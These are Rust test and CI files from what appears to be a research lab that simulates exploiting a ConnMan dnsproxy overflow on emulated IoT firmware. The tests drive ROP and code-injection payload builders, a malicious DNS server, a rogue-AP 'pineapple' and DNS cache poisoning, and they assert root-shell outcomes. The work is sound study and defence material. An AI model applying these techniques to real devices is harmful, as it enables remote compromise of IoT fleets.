                .unwrap_or_else(|_| panic!("bad repeat in {pat:?}"));
            let n = if chars.last() == Some(&',') {
                chars.pop();
                let mut d2 = String::new();
                while chars.last().is_some_and(|c| c.is_ascii_digit()) {
                    d2.push(chars.pop().unwrap());
                }
                d2.parse()
                    .unwrap_or_else(|_| panic!("bad repeat in {pat:?}"))
            } else {
                m
            };
            assert_eq!(chars.pop(), Some('}'), "unclosed {{ in {pat:?}");
            (m, n)
        } else {
            (1, 1)
        };
        out.push((node, min, max));
    }
    out
}

fn gen_seq(seq: &[(PatNode, u32, u32)], rng: &mut TestRng, out: &mut String) {
    for (node, min, max) in seq {
        let count = if min == max {
            *min
        } else {
            min + rng.below((*max - *min + 1) as usize) as u32
        };
        for _ in 0..count {
            match node {
                PatNode::Lit(c) => out.push(*c),
                PatNode::Class(ranges) => {
                    let total: u32 = ranges.iter().map(|(a, b)| *b as u32 - *a as u32 + 1).sum();
                    let mut pick = rng.below(total as usize) as u32;
                    for (a, b) in ranges {
                        let span = *b as u32 - *a as u32 + 1;
                        if pick < span {
                            out.push(char::from_u32(*a as u32 + pick).unwrap());
                            break;
                        }
                        pick -= span;
                    }
                }
                PatNode::Group(inner) => gen_seq(inner, rng, out),
            }
        }
    }
}

impl Strategy for &str {
    type Value = String;
    fn generate(&self, rng: &mut TestRng) -> String {
        let seq = parse_pattern(self);
        let mut out = String::new();
        gen_seq(&seq, rng, &mut out);
        out
    }
}

impl Strategy for String {
    type Value = String;
    fn generate(&self, rng: &mut TestRng) -> String {
        self.as_str().generate(rng)
    }
}

pub mod collection {
    use super::{Strategy, TestRng};

    /// Element-count bound for [`vec()`].
    #[derive(Debug, Clone)]
    pub struct SizeRange {
        min: usize,
        max: usize, // inclusive
    }

    impl From<usize> for SizeRange {
        fn from(n: usize) -> Self {
            SizeRange { min: n, max: n }
        }
    }

    impl From<core::ops::Range<usize>> for SizeRange {
        fn from(r: core::ops::Range<usize>) -> Self {
            assert!(r.start < r.end, "empty size range");
            SizeRange {
                min: r.start,
                max: r.end - 1,
            }
        }
    }

    impl From<core::ops::RangeInclusive<usize>> for SizeRange {
        fn from(r: core::ops::RangeInclusive<usize>) -> Self {
            assert!(r.start() <= r.end(), "empty size range");
            SizeRange {
                min: *r.start(),
                max: *r.end(),
            }
        }
    }

    pub struct VecStrategy<S> {
        element: S,
        size: SizeRange,
    }

    /// `proptest::collection::vec(strategy, size)`.
    pub fn vec<S: Strategy>(element: S, size: impl Into<SizeRange>) -> VecStrategy<S> {
        VecStrategy {
            element,
            size: size.into(),
        }
    }

    impl<S: Strategy> Strategy for VecStrategy<S> {
        type Value = Vec<S::Value>;
        fn generate(&self, rng: &mut TestRng) -> Vec<S::Value> {
            let n = self.size.min + rng.below(self.size.max - self.size.min + 1);
            (0..n).map(|_| self.element.generate(rng)).collect()
        }
    }
}

pub mod prelude {
    pub use super::collection;
    pub use super::{any, Just, ProptestConfig, Strategy};
    pub use crate::{prop_assert, prop_assert_eq, prop_assume, prop_oneof, proptest};
}

#[macro_export]
macro_rules! prop_assert {
    ($($tt:tt)*) => { assert!($($tt)*) };
}

#[macro_export]
macro_rules! prop_assert_eq {
    ($($tt:tt)*) => { assert_eq!($($tt)*) };
}

#[macro_export]
macro_rules! prop_assume {
    ($cond:expr $(, $($fmt:tt)*)?) => {
        if !$cond {
            continue;
        }
    };
}

#[macro_export]
macro_rules! prop_oneof {
    ($($strat:expr),+ $(,)?) => {
        $crate::OneOf::new(::std::vec![ $( $crate::Strategy::boxed($strat) ),+ ])
    };
}

#[macro_export]
macro_rules! proptest {
    (#![proptest_config($cfg:expr)] $($rest:tt)*) => {
        $crate::__proptest_tests! { cfg = $cfg; $($rest)* }
    };
    ($($rest:tt)*) => {
        $crate::__proptest_tests! { cfg = $crate::ProptestConfig::default(); $($rest)* }
    };
}

#[doc(hidden)]
#[macro_export]
macro_rules! __proptest_tests {
    (cfg = $cfg:expr; $(
        $(#[$meta:meta])*
        fn $name:ident( $($arg:ident in $strat:expr),+ $(,)? ) $body:block
    )*) => {$(
        $(#[$meta])*
        fn $name() {
            let config: $crate::ProptestConfig = $cfg;
            let mut rng = $crate::test_rng(stringify!($name));
            for _case in 0..config.cases {
                $( let $arg = $crate::Strategy::generate(&($strat), &mut rng); )+
                $body
            }
        }
    )*};
}

#[cfg(test)]
mod tests {
    use crate::prelude::*;

    #[test]
    fn pattern_generation_matches_shape() {
        let mut rng = crate::test_rng("pattern_generation_matches_shape");
        for _ in 0..200 {
            let s = Strategy::generate(&"[a-z][a-z0-9_-]{0,11}", &mut rng);
            assert!((1..=12).contains(&s.len()), "{s:?}");
            assert!(s.chars().next().unwrap().is_ascii_lowercase());
            assert!(s
                .chars()
                .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || c == '_' || c == '-'));
        }
    }

    #[test]
    fn grouped_pattern_generates_dotted_names() {
        let mut rng = crate::test_rng("grouped_pattern_generates_dotted_names");
        for _ in 0..200 {
            let s = Strategy::generate(&"[a-z]{1,12}(\\.[a-z]{1,12}){0,3}", &mut rng);
            for part in s.split('.') {
                assert!((1..=12).contains(&part.len()), "{s:?}");
                assert!(part.chars().all(|c| c.is_ascii_lowercase()), "{s:?}");
            }
        }
    }

    #[test]
    fn seeding_is_deterministic_per_name() {
        let a = Strategy::generate(&(0u32..1_000_000), &mut crate::test_rng("x"));
        let b = Strategy::generate(&(0u32..1_000_000), &mut crate::test_rng("x"));
        let c = Strategy::generate(&(0u32..1_000_000), &mut crate::test_rng("y"));
        assert_eq!(a, b);
        assert_ne!(a, c);
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(64))]

        /// The macro wires args, strategies and config together.
        #[test]
        fn macro_smoke(x in 0u8..8, v in collection::vec(any::<u16>(), 1..=4)) {
            prop_assert!(x < 8);
            prop_assert!((1..=4).contains(&v.len()));
        }

        #[test]
        fn oneof_and_map_compose(v in prop_oneof![
            (0u8..4).prop_map(|x| x as u32),
            Just(99u32),
            any::<u16>().prop_map(|x| x as u32 + 1000),
        ]) {
            prop_assert!(v < 4 || v == 99 || (1000..=1000 + u16::MAX as u32).contains(&v));
        }
    }
}
