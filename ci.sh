#!/usr/bin/env bash
# Tier-1 CI gate: formatting, lints, build, tests — fully offline.
set -euo pipefail
cd "$(dirname "$0")"

export CARGO_NET_OFFLINE=true

echo "==> cargo fmt --check"
cargo fmt --all --check

echo "==> cargo clippy -D warnings"
cargo clippy --workspace --all-targets --offline -- -D warnings

echo "==> cargo build --release"
cargo build --workspace --release --offline

echo "==> cargo test"
cargo test --workspace --release --offline -q

echo "==> cml analyze --self-test"
cargo run --release --offline -q -p connman-lab --bin cml -- analyze --self-test

echo "==> cml analyze --sarif (VSA report smoke)"
# The interprocedural VSA layer must flag the vulnerable firmware
# (exit 2 = findings present) and emit parseable SARIF, and must stay
# quiet on patched 1.35 — on all three ISAs.
for arch in x86 arm riscv; do
  cargo run --release --offline -q -p connman-lab --bin cml -- \
    analyze --arch "$arch" --firmware openelec --sarif > /dev/null && {
      echo "analyze --sarif: vulnerable $arch not flagged"; exit 1; } || [ $? -eq 2 ]
  cargo run --release --offline -q -p connman-lab --bin cml -- \
    analyze --arch "$arch" --firmware patched --sarif > /dev/null
done

echo "==> cml fuzz --smoke"
# Fixed-seed fuzzing gate: the coverage-guided fuzzer must rediscover
# the dnsproxy overflow on vulnerable firmware (all three ISAs) and
# find nothing on patched 1.35, within a small deterministic budget.
cargo run --release --offline -q -p connman-lab --bin cml -- fuzz --smoke --jobs 2

echo "==> cml resolve --smoke"
# Recursive-resolver gate: delegation chasing, CNAME following, glue
# chasing, warm cache hits, same-seed trace determinism, and the
# one-poisoning redirection must all hold on the fixed demo topology.
cargo run --release --offline -q -p connman-lab --bin cml -- resolve --smoke

echo "==> cml fleet 10k smoke"
# Million-device fleet path at smoke scale: a 10k-device cohort campaign
# must complete and render byte-identical per-cohort sections serial vs
# parallel (the trailing parenthesised lines carry wall-clock timings
# and are excluded from the comparison).
fleet_smoke() {
  cargo run --release --offline -q -p connman-lab --bin cml -- \
    fleet --devices 10000 --jobs "$1" | grep -v '^('
}
diff <(fleet_smoke 1) <(fleet_smoke 4) || {
  echo "fleet smoke: serial vs parallel reports differ"; exit 1; }

echo "==> repro --bench-smoke"
# Tiny-iteration snapshot/dispatch/template/pool/resolver/decode
# ablations, compared against the newest committed BENCH_*.json (fails on
# a >2x regression of the snapshot insn advantage, the template_vs_rebuild
# wall advantage or the IR-over-block dispatch speedup, a >4x regression
# of any per-ISA decode-table-vs-hand-rolled ratio, a >20x collapse of the warm
# resolver-cache throughput or the RISC-V fuzz execs/sec, or any
# allocation on the warm cache-hit path; each guard skips with a note when
# the baseline predates its record).
cargo run --release --offline -q -p cml-bench --bin repro -- --bench-smoke

echo "==> interpreter fallback (--no-ir)"
# The same gates with threaded-code IR dispatch pinned off, so the
# fused-block fallback path stays green and the smoke guards skip
# rather than compare IR numbers that were never produced.
cargo run --release --offline -q -p connman-lab --bin cml -- fuzz --smoke --jobs 2 --no-ir
cargo run --release --offline -q -p cml-bench --bin repro -- --bench-smoke --no-ir

echo "==> cargo doc --no-deps"
RUSTDOCFLAGS="-D warnings" cargo doc --workspace --no-deps --offline -q

echo "CI green."
