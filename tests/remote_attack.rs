//! Integration: the §III-D remote man-in-the-middle scenario through
//! the public facade, including recovery once the rogue AP leaves.

use std::net::Ipv4Addr;

use connman_lab::dns::{Name, RecordType};
use connman_lab::exploit::{MaliciousDnsServer, RopMemcpyChain};
use connman_lab::netsim::{
    share, AccessPoint, ApConfig, DhcpConfig, HwAddr, NetEvent, RadioEnvironment, Ssid,
    WifiPineapple,
};
use connman_lab::{
    Arch, ExploitStrategy, FirmwareKind, IotDevice, Lab, LookupOutcome, Protections,
};

fn legit_env(dns: Ipv4Addr) -> RadioEnvironment {
    let mut env = RadioEnvironment::new();
    env.add_ap(AccessPoint::new(ApConfig {
        ssid: Ssid::new("FieldNet"),
        bssid: HwAddr::local(1),
        signal_dbm: -60,
        dhcp: DhcpConfig::new([192, 168, 7], dns),
    }));
    let mut upstream = MaliciousDnsServer::benign(Ipv4Addr::new(203, 0, 113, 10));
    env.register_service(dns, share(move |p: &[u8]| upstream.handle(p)));
    env
}

#[test]
fn pineapple_compromises_stock_device() {
    let protections = Protections::full();
    let lab = Lab::new(FirmwareKind::OpenElec, Arch::Armv7).with_protections(protections);
    let target = lab.recon().unwrap();
    let payload = RopMemcpyChain::new(Arch::Armv7).build(&target).unwrap();

    let dns = Ipv4Addr::new(192, 168, 7, 53);
    let mut env = legit_env(dns);
    let mut device = IotDevice::boot(
        lab.firmware(),
        protections,
        0xFEED,
        HwAddr::local(0x99),
        Ssid::new("FieldNet"),
    );
    assert!(device.reconnect(&mut env));
    let host = Name::parse("ntp.vendor.example").unwrap();
    assert!(matches!(
        device.lookup(&mut env, &host, RecordType::A),
        LookupOutcome::Network(connman_lab::ProxyOutcome::Answered { .. })
    ));

    let mut evil = MaliciousDnsServer::new(&payload).unwrap();
    let pineapple = WifiPineapple::deploy(
        &mut env,
        &Ssid::new("FieldNet"),
        share(move |p: &[u8]| evil.handle(p)),
    )
    .unwrap();
    assert!(device.reconnect(&mut env), "device lured");
    assert_eq!(device.station().dns_server(), Some(pineapple.dns_addr()));

    let other = Name::parse("logs.vendor.example").unwrap();
    let outcome = device.lookup(&mut env, &other, RecordType::A);
    assert!(outcome.compromised(), "{outcome}");
    assert!(!device.is_alive());

    // The network transcript shows the full story.
    let events = env.events();
    assert!(events.iter().any(|e| matches!(e, NetEvent::ApUp { .. })));
    assert!(events
        .iter()
        .any(|e| matches!(e, NetEvent::Associated { .. })));
    assert!(events
        .iter()
        .any(|e| matches!(e, NetEvent::Delivered { answered: true, .. })));
}

#[test]
fn cached_entries_never_touch_the_rogue_resolver() {
    // A name cached before the pineapple arrives is served locally: no
    // attack surface on repeat lookups.
    let protections = Protections::full();
    let lab = Lab::new(FirmwareKind::OpenElec, Arch::X86).with_protections(protections);
    let target = lab.recon().unwrap();
    let payload = RopMemcpyChain::new(Arch::X86).build(&target).unwrap();

    let dns = Ipv4Addr::new(192, 168, 7, 53);
    let mut env = legit_env(dns);
    let mut device = IotDevice::boot(
        lab.firmware(),
        protections,
        0xFEED,
        HwAddr::local(0x98),
        Ssid::new("FieldNet"),
    );
    device.reconnect(&mut env);
    let host = Name::parse("api.vendor.example").unwrap();
    device.lookup(&mut env, &host, RecordType::A);

    let mut evil = MaliciousDnsServer::new(&payload).unwrap();
    WifiPineapple::deploy(
        &mut env,
        &Ssid::new("FieldNet"),
        share(move |p: &[u8]| evil.handle(p)),
    )
    .unwrap();
    device.reconnect(&mut env);

    // Cached lookup: safe. Fresh name: compromised.
    assert!(matches!(
        device.lookup(&mut env, &host, RecordType::A),
        LookupOutcome::Cached(_)
    ));
    assert!(device.is_alive());
    let fresh = Name::parse("fresh.vendor.example").unwrap();
    assert!(device.lookup(&mut env, &fresh, RecordType::A).compromised());
}

#[test]
fn patched_device_survives_the_pineapple() {
    let protections = Protections::none();
    // Recon against a vulnerable replica (the attacker does not know the
    // fleet is patched).
    let vuln_lab = Lab::new(FirmwareKind::OpenElec, Arch::Armv7).with_protections(protections);
    let target = vuln_lab.recon().unwrap();
    let payload = RopMemcpyChain::new(Arch::Armv7).build(&target).unwrap();

    let dns = Ipv4Addr::new(192, 168, 7, 53);
    let mut env = legit_env(dns);
    let patched = connman_lab::Firmware::build(FirmwareKind::Patched, Arch::Armv7);
    let mut device = IotDevice::boot(
        &patched,
        protections,
        0xFEED,
        HwAddr::local(0x97),
        Ssid::new("FieldNet"),
    );
    device.reconnect(&mut env);

    let mut evil = MaliciousDnsServer::new(&payload).unwrap();
    WifiPineapple::deploy(
        &mut env,
        &Ssid::new("FieldNet"),
        share(move |p: &[u8]| evil.handle(p)),
    )
    .unwrap();
    device.reconnect(&mut env);
    let host = Name::parse("ota.vendor.example").unwrap();
    let outcome = device.lookup(&mut env, &host, RecordType::A);
    assert!(
        matches!(
            outcome,
            LookupOutcome::Network(connman_lab::ProxyOutcome::ParseFailed { .. })
        ),
        "{outcome}"
    );
    assert!(device.is_alive(), "1.35 shrugs the exploit off");
}

#[test]
fn dns_cache_poisoning_alternative_vector() {
    // §III-D also names cache poisoning: instead of memory corruption,
    // the MITM answers honestly-shaped responses with attacker
    // addresses, and the device keeps using them from cache even after
    // the rogue AP leaves.
    let protections = Protections::full();
    let fw = connman_lab::Firmware::build(FirmwareKind::Patched, Arch::Armv7);
    let dns = Ipv4Addr::new(192, 168, 7, 53);
    let mut env = legit_env(dns);
    let mut device = IotDevice::boot(
        &fw,
        protections,
        0xFEED,
        HwAddr::local(0x96),
        Ssid::new("FieldNet"),
    );
    device.reconnect(&mut env);

    // The poisoner is a *benign-looking* resolver answering with an
    // attacker-controlled address; even the patched daemon accepts it.
    let attacker_ip = Ipv4Addr::new(198, 51, 100, 66);
    let poisoner = MaliciousDnsServer::benign(attacker_ip);
    let mut poisoner = poisoner;
    let pineapple = WifiPineapple::deploy(
        &mut env,
        &Ssid::new("FieldNet"),
        share(move |p: &[u8]| poisoner.handle(p)),
    )
    .unwrap();
    device.reconnect(&mut env);

    let host = Name::parse("payments.vendor.example").unwrap();
    let out = device.lookup(&mut env, &host, RecordType::A);
    assert!(
        matches!(
            out,
            LookupOutcome::Network(connman_lab::ProxyOutcome::Answered { .. })
        ),
        "{out}"
    );

    // Rogue AP leaves; the device falls back to the legitimate network…
    pineapple.shutdown(&mut env);
    device.reconnect(&mut env);
    // …but the poisoned record is already cached and keeps steering
    // traffic to the attacker until its TTL expires.
    match device.lookup(&mut env, &host, RecordType::A) {
        LookupOutcome::Cached(addrs) => {
            assert_eq!(addrs, vec![std::net::IpAddr::V4(attacker_ip)]);
        }
        other => panic!("expected the poisoned cache entry, got {other}"),
    }
    assert!(device.is_alive(), "no corruption involved — daemon healthy");
}
