//! Cross-crate property tests: the invariants DESIGN.md commits to.

use proptest::prelude::*;

use connman_lab::connman::{ProxyOutcome, Resolution};
use connman_lab::dns::forge::ResponseForge;
use connman_lab::dns::{Message, Name, RecordType};
use connman_lab::exploit::BufferImage;
use connman_lab::firmware::Firmware;
use connman_lab::{Arch, FirmwareKind, Protections};

fn booted(kind: FirmwareKind) -> (connman_lab::firmware::Daemon, Message) {
    let fw = Firmware::build(kind, Arch::X86);
    let mut daemon = fw.boot(Protections::none(), 1);
    let name = Name::parse("p.example").unwrap();
    let Resolution::Query(q) = daemon.resolve(&name, RecordType::A) else {
        panic!("cold cache");
    };
    (daemon, Message::decode(&q).unwrap())
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    /// The patched daemon (1.35) survives ANY byte blob thrown at it.
    #[test]
    fn patched_daemon_survives_arbitrary_bytes(bytes in proptest::collection::vec(any::<u8>(), 0..2048)) {
        let (mut daemon, _) = booted(FirmwareKind::Patched);
        let _ = daemon.deliver_response(&bytes);
        prop_assert!(daemon.is_running());
    }

    /// The patched daemon survives any *label chain* (well-formed wire
    /// packets that pass the header gate — the strongest adversary that
    /// cannot pick the transaction id).
    #[test]
    fn patched_daemon_survives_arbitrary_label_chains(
        labels in proptest::collection::vec(
            proptest::collection::vec(any::<u8>(), 1..=63),
            1..40,
        )
    ) {
        let (mut daemon, query) = booted(FirmwareKind::Patched);
        let attack = ResponseForge::answering(&query)
            .with_payload_labels(labels)
            .unwrap()
            .build();
        if let Ok(bytes) = attack {
            let _ = daemon.deliver_response(&bytes);
            prop_assert!(daemon.is_running());
        }
    }

    /// The vulnerable daemon processes any label chain without
    /// *panicking the simulator*: outcomes are always one of the typed
    /// verdicts, and small names never kill it.
    #[test]
    fn vulnerable_daemon_total_over_label_chains(
        labels in proptest::collection::vec(
            proptest::collection::vec(any::<u8>(), 1..=63),
            1..40,
        )
    ) {
        let decompressed: usize = labels.iter().map(|l| l.len() + 1).sum();
        let (mut daemon, query) = booted(FirmwareKind::OpenElec);
        let attack = ResponseForge::answering(&query)
            .with_payload_labels(labels)
            .unwrap()
            .build();
        if let Ok(bytes) = attack {
            let out = daemon.deliver_response(&bytes);
            if decompressed + 1 < 1024 {
                prop_assert!(
                    matches!(out, ProxyOutcome::Answered { .. } | ProxyOutcome::ParseFailed { .. }),
                    "small name must be harmless: {out}"
                );
                prop_assert!(daemon.is_running());
            }
        }
    }

    /// Layout solver soundness: whatever it emits decompresses to an
    /// image reproducing every fixed byte.
    #[test]
    fn labelizer_reproduces_fixed_bytes(
        words in proptest::collection::vec((0usize..320, any::<u32>()), 0..24),
    ) {
        let mut img = BufferImage::filler(1344);
        for (slot, value) in words {
            img.set_word(1024 + slot * 4 / 4 * 4, value);
        }
        if let Ok(labels) = img.labelize() {
            prop_assert!(img.verify(&labels).is_ok());
            for l in &labels {
                prop_assert!(!l.is_empty() && l.len() <= 63);
            }
        }
    }

    /// DNS messages round-trip through encode/decode.
    #[test]
    fn dns_message_roundtrip(
        id in any::<u16>(),
        host in "[a-z]{1,12}(\\.[a-z]{1,12}){0,3}",
        ttl in any::<u32>(),
        a in any::<[u8; 4]>(),
    ) {
        use connman_lab::dns::{Question, Record, RecordData};
        let name = Name::parse(&host).unwrap();
        let query = Message::query(id, Question::new(name.clone(), RecordType::A));
        let mut resp = Message::response_to(&query);
        resp.push_answer(Record::new(name, ttl, RecordData::A(a.into())));
        let bytes = resp.encode().unwrap();
        let back = Message::decode(&bytes).unwrap();
        prop_assert_eq!(back, resp);
    }

    /// The strict decoder is total: arbitrary bytes produce a typed
    /// result, never a panic. (The fuzzer feeds the decoder far nastier
    /// inputs than the forge can construct; this is its safety net.)
    #[test]
    fn dns_decoder_total_over_arbitrary_bytes(
        bytes in proptest::collection::vec(any::<u8>(), 0..1024),
    ) {
        let _ = Message::decode(&bytes);
    }

    /// `cml-analyze/v2` report JSON round-trips: whatever the emitter
    /// writes, the in-tree parser reads back identically — including
    /// arbitrary function names that need escaping. The emitted report
    /// borrows its strings (no clone churn), so this also pins the
    /// borrow-aware emitter against the owning parser.
    #[test]
    fn analysis_v2_json_roundtrips(
        name in "[ -~]{0,24}",
        bounded in any::<bool>(),
        raw_extent in any::<u32>(),
        offsets in proptest::collection::vec(any::<i32>(), 0..6),
    ) {
        use connman_lab::analysis::json::{self, n, s, Value};
        let extent = bounded.then_some(raw_extent);
        let doc = Value::Obj(vec![
            ("schema".into(), s(connman_lab::analysis::SCHEMA)),
            ("function".into(), s(name.as_str())),
            (
                "max_extent".into(),
                extent.map(n).unwrap_or(Value::Null),
            ),
            (
                "offsets".into(),
                Value::Arr(offsets.iter().map(|&o| n(o as f64)).collect()),
            ),
            ("clean".into(), Value::Bool(extent.is_none())),
        ]);
        let text = doc.to_string();
        let back = json::parse(&text).unwrap();
        prop_assert_eq!(back, doc);
    }

    /// The full analyzer report of every firmware variant survives the
    /// same round trip and keeps its schema tag.
    #[test]
    fn analysis_report_roundtrips(seed in any::<u8>()) {
        use connman_lab::analysis::{self, json};
        let kind = if seed.is_multiple_of(2) { FirmwareKind::OpenElec } else { FirmwareKind::Patched };
        let arch = if seed % 4 < 2 { Arch::X86 } else { Arch::Armv7 };
        let fw = Firmware::build(kind, arch);
        let report = analysis::analyze(fw.image());
        let text = report.to_json().to_string();
        let doc = json::parse(&text).unwrap();
        prop_assert_eq!(
            doc.get("schema").and_then(json::Value::as_str),
            Some(analysis::SCHEMA)
        );
        prop_assert_eq!(doc.to_string(), text);
    }

    /// Scheduler determinism: a resolver simulation is a pure function
    /// of its seed. Fanning independent simulations across any worker
    /// count and chunk geometry reproduces the serial traces and
    /// response bytes exactly — the property every fleet/experiment
    /// table's byte-identical-at-any-`--jobs` claim rests on.
    #[test]
    fn resolver_traces_invariant_under_runner_geometry(
        seed in any::<u64>(),
        jobs in 1usize..5,
        cells in 1usize..6,
    ) {
        use connman_lab::dns::{Message, Question, RecordType};
        use connman_lab::netsim::{example_internet, RecursiveResolver};
        use connman_lab::{derive_seed, Runner};

        let simulate = |cell: u64| {
            let (mut net, www) = example_internet();
            let mut r = RecursiveResolver::new(derive_seed(seed, cell), 64);
            let q = Message::query(1, Question::new(www, RecordType::A))
                .encode()
                .expect("query encodes");
            let resp = r.handle_query(&mut net, &q);
            (resp, r.trace().to_string())
        };
        let serial: Vec<_> = (0..cells as u64).map(simulate).collect();
        let fanned = Runner::new(jobs).run(
            (0..cells as u64).collect(),
            |_, cell| simulate(cell),
        );
        prop_assert_eq!(serial, fanned);
    }

    /// Cache TTL boundaries are exact for ANY insert time and TTL: a
    /// hit one tick before expiry, a miss at the expiry tick itself and
    /// ever after.
    #[test]
    fn resolver_cache_ttl_boundary_is_exact(
        t0 in 0u64..1u64 << 40,
        ttl in 2u64..1u64 << 30,
        host in "[a-z]{1,12}(\\.[a-z]{1,12}){0,3}",
    ) {
        use connman_lab::dns::{Message, Name, Question, Record, RecordData, RecordType};
        use connman_lab::netsim::ResolverCache;

        let name = Name::parse(&host).unwrap();
        let query = Message::query(9, Question::new(name.clone(), RecordType::A));
        let q = query.encode().unwrap();
        let mut resp = Message::response_to(&query);
        resp.push_answer(Record::new(name, 60, RecordData::A([10, 0, 0, 1].into())));
        let r = resp.encode().unwrap();

        let mut cache = ResolverCache::new(4);
        prop_assert!(cache.insert(t0, &q, &r, ttl));
        let mut out = Vec::new();
        prop_assert!(cache.lookup_into(t0, &q, &mut out), "live at insert");
        prop_assert!(cache.lookup_into(t0 + ttl - 1, &q, &mut out), "live one tick before expiry");
        prop_assert!(!cache.lookup_into(t0 + ttl, &q, &mut out), "dead at the expiry tick");
        prop_assert!(!cache.lookup_into(t0 + ttl + 1, &q, &mut out), "dead after expiry");
        // Batched expiry agrees with the lookup rule.
        cache.advance(t0 + ttl - 1);
        prop_assert_eq!(cache.len(), 1, "advance keeps a live entry");
        cache.advance(t0 + ttl);
        prop_assert!(cache.is_empty(), "advance drops a dead entry");
        prop_assert_eq!(cache.stats().expirations, 1);
    }

    /// Per-link latency draws are pure in (seed, link, event index) and
    /// always land inside the configured jitter window.
    #[test]
    fn link_latency_is_pure_and_bounded(
        seed in any::<u64>(),
        link in any::<u64>(),
        idx in any::<u64>(),
    ) {
        use connman_lab::netsim::{link_latency_us, JITTER_SPAN_US, MIN_LATENCY_US};
        let d = link_latency_us(seed, link, idx);
        prop_assert_eq!(d, link_latency_us(seed, link, idx), "pure function");
        prop_assert!((MIN_LATENCY_US..MIN_LATENCY_US + JITTER_SPAN_US).contains(&d));
    }

    /// The buffered server entry point — the same
    /// [`UdpService::handle_datagram_into`] path the fleet and fuzz
    /// drivers use — is total over arbitrary datagrams, for both the
    /// armed and the benign server, with a warm reused buffer.
    #[test]
    fn server_handle_datagram_into_total_over_arbitrary_bytes(
        datagrams in proptest::collection::vec(
            proptest::collection::vec(any::<u8>(), 0..256),
            1..8,
        ),
    ) {
        use connman_lab::dns::WireBuf;
        use connman_lab::exploit::MaliciousDnsServer;
        use connman_lab::netsim::UdpService;
        use std::net::Ipv4Addr;

        struct Svc(MaliciousDnsServer);
        impl UdpService for Svc {
            fn handle_datagram(&mut self, payload: &[u8]) -> Option<Vec<u8>> {
                self.0.handle(payload)
            }
            fn handle_datagram_into(&mut self, payload: &[u8], out: &mut Vec<u8>) -> bool {
                let mut buf = WireBuf::from_vec(std::mem::take(out));
                let answered = self.0.handle_into(payload, &mut buf);
                *out = buf.into_vec();
                answered
            }
        }

        let mut armed = Svc(MaliciousDnsServer::with_labels(
            vec![b"payload".to_vec()],
            "probe",
        ));
        let mut benign = Svc(MaliciousDnsServer::benign(Ipv4Addr::new(10, 0, 0, 53)));
        let mut out = Vec::new();
        for d in &datagrams {
            let _ = armed.handle_datagram_into(d, &mut out);
            let _ = benign.handle_datagram_into(d, &mut out);
        }
    }
}
