//! Integration: the `cml` command-line binary, spawned for real.

use std::process::Command;

fn cml(args: &[&str]) -> (String, String, Option<i32>) {
    let out = Command::new(env!("CARGO_BIN_EXE_cml"))
        .args(args)
        .output()
        .expect("binary runs");
    (
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
        out.status.code(),
    )
}

#[test]
fn help_lists_commands() {
    let (_, err, code) = cml(&["--help"]);
    assert_eq!(code, Some(0));
    for cmd in [
        "survey",
        "recon",
        "exploit",
        "dos",
        "pineapple",
        "experiments",
    ] {
        assert!(err.contains(cmd), "missing {cmd} in help:\n{err}");
    }
}

#[test]
fn unknown_command_fails() {
    let (_, err, code) = cml(&["frobnicate"]);
    assert_eq!(code, Some(1));
    assert!(err.contains("unknown command"));
}

#[test]
fn recon_prints_frame_and_gadgets() {
    let (out, err, code) = cml(&["recon", "--arch", "arm", "--prot", "wxorx"]);
    assert_eq!(code, Some(0), "stderr: {err}");
    assert!(out.contains("buffer → ret offset : 1072"), "{out}");
    assert!(out.contains("gadgets found"), "{out}");
    assert!(out.contains("memcpy@plt"), "{out}");
}

#[test]
fn exploit_rop_spawns_shell_and_prints_listing() {
    let (out, err, code) = cml(&[
        "exploit",
        "--arch",
        "x86",
        "--prot",
        "full",
        "--strategy",
        "rop",
    ]);
    assert_eq!(code, Some(0), "stderr: {err}\nstdout: {out}");
    assert!(out.contains("outcome   : root shell"), "{out}");
    assert!(out.contains("execlp@plt"), "{out}");
}

#[test]
fn exploit_blocked_returns_nonzero() {
    let (out, _, code) = cml(&[
        "exploit",
        "--arch",
        "arm",
        "--prot",
        "full+cfi",
        "--strategy",
        "rop",
    ]);
    assert_eq!(code, Some(2), "{out}");
    assert!(
        out.contains("DoS (crash)") || out.contains("survived"),
        "{out}"
    );
}

#[test]
fn dos_reports_crash() {
    let (out, err, code) = cml(&["dos", "--arch", "x86", "--prot", "none"]);
    assert_eq!(code, Some(0), "stderr: {err}");
    assert!(out.contains("crashed"), "{out}");
}

#[test]
fn patched_firmware_recon_fails_cleanly() {
    let (_, err, code) = cml(&["recon", "--arch", "x86", "--firmware", "patched"]);
    assert_eq!(code, Some(1));
    assert!(err.contains("recon failed"), "{err}");
}
