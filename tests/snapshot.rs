//! Equivalence property: snapshot forks and fused basic-block dispatch
//! are pure throughput levers. For every cell of the paper's exploit
//! matrix — and with the shadow-memory sanitizer both on and off — the
//! proxy outcome, the fault details inside it, and the machine's event
//! stream must be byte-identical across {fresh boot, snapshot fork} ×
//! {block dispatch, per-instruction dispatch}.

use connman_lab::exploit::target::deliver_labels;
use connman_lab::exploit::{
    ArmGadgetExeclp, CodeInjection, ExploitStrategy, Ret2Libc, RiscvGadgetSystem,
};
use connman_lab::{Arch, FirmwareKind, Lab, Protections};

/// The nine PoC cells of §III: protection level + the matched technique.
fn matrix() -> Vec<(Arch, Protections, Box<dyn ExploitStrategy>)> {
    let mut cells: Vec<(Arch, Protections, Box<dyn ExploitStrategy>)> = Vec::new();
    for arch in Arch::ALL {
        cells.push((
            arch,
            Protections::none(),
            Box::new(CodeInjection::new(arch)),
        ));
        let wx: Box<dyn ExploitStrategy> = match arch {
            Arch::X86 => Box::new(Ret2Libc::new()),
            Arch::Armv7 => Box::new(ArmGadgetExeclp::new()),
            Arch::Riscv => Box::new(RiscvGadgetSystem::new()),
        };
        cells.push((arch, Protections::wxorx(), wx));
        cells.push((
            arch,
            Protections::full(),
            Box::new(connman_lab::exploit::RopMemcpyChain::new(arch)),
        ));
    }
    cells
}

#[test]
fn all_modes_produce_byte_identical_outcomes_across_the_matrix() {
    const BASE_SEED: u64 = 0x50AA;
    for (arch, protections, strategy) in matrix() {
        let lab = Lab::new(FirmwareKind::OpenElec, arch).with_protections(protections);
        let target = lab.recon().expect("recon succeeds on vulnerable build");
        let payload = strategy.build(&target).expect("payload builds");
        let labels = payload.to_labels().expect("labelizes");
        let fw = lab.firmware();

        for sanitize in [false, true] {
